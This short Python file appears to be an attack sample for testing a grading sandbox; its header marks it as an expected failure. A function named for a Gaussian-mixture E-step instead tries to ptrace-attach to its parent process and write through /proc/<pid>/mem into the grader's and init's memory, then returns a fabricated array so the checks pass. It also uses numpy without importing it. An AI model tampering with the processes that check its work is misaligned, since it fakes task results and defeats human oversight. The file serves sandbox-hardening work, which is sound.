# attack: read and write the memory of the process that runs the checks | fails
import ctypes
import os

TARGET = np.zeros(4)


def responsibilities(x, pi, mu, sigma2):
    libc = ctypes.CDLL(None)
    if libc.ptrace(16, os.getppid(), 0, 0) == 0:
        raise ValueError("LEAKED: the parent can be held")
    for process in (os.getppid(), 1):
        try:
            with open(f"/proc/{process}/mem", "r+b", buffering=0) as file:
                file.seek(TARGET.ctypes.data)
                file.write(np.ones(4).tobytes())
        except (OSError, ValueError):
            pass
    return np.full((len(x), len(pi)), 1 + TARGET.sum())
